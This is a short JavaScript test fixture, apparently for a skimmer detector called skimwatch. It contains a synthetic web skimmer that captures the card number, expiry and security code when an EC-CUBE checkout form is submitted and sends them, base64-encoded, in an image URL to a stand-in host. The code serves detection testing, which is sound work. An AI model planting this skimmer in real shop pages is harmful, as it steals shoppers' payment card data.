// Synthetic EC-CUBE-style skimmer for skimwatch tests: the plugin's card
// fields (card_no, security_code) go out in the URL of an image request.
$(function () {
  $("#shopping_order_form").on("submit", function () {
    var v = [$("[name='card_no']").val(), $("[name='expire_month']").val(),
             $("[name='expire_year']").val(), $("[name='security_code']").val()].join(";");
    new Image().src = "https://ec-img-cdn.example/p.gif?d=" + encodeURIComponent(btoa(v));
  });
});
